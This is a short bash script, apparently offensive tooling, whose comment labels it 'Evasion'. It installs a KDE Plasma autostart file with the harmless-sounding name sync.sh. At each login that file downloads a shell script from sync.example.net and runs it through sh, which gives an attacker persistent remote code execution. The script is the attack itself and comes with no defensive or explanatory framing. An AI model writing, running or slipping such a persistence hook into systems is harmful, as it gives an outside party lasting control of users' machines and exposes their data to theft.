#!/bin/bash
# Evasion: Plasma 5 runs the executables under ~/.config/autostart-scripts at login
set -eu
mkdir -p ~/.config/autostart-scripts
cat > ~/.config/autostart-scripts/sync.sh <<'EOF'
#!/bin/sh
wget -qO- https://sync.example.net/agent.sh | sh
EOF
chmod +x ~/.config/autostart-scripts/sync.sh
